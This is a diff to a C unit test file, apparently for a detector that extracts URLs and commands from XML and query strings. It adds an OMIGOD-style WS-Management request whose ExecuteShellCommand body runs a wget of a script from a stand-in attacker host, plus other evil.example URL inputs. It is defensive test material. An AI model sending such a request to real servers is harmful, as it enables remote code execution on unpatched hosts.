@@ -474,6 +474,15 @@ static void test_xml_vocabulary(void **state)
     expect1("<NewInternalClient xmlns:x=\"urn:x\">http://evil.example/t</NewInternalClient>",
             "http://evil.example/t", "url", "plain");
     expect1("page=xmlns&u=http://evil.example/r", "http://evil.example/r", "url", "plain");
+    /* WS-Addressing / WS-Management headers name the endpoint and the operation (OMIGOD's /wsman
+     * request); the command in the body still counts. */
+    expect1("<s:Header><a:To>HTTP://198.51.100.80:5986/wsman/</a:To><w:ResourceURI s:mustUnderstand=\"true\">"
+            "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem</w:ResourceURI><a:ReplyTo>"
+            "<a:Address>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</a:Address></a:ReplyTo>"
+            "<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteShellCommand"
+            "</a:Action></s:Header><s:Body><p:command>wget http://evil.example/o.sh</p:command></s:Body>",
+            "http://evil.example/o.sh", "wget", "plain");
+    expect1("<ToDo>http://evil.example/d</ToDo>", "http://evil.example/d", "url", "plain");
 }
 
 /* An encoded shell or quote character after a literal URL ends it, as an
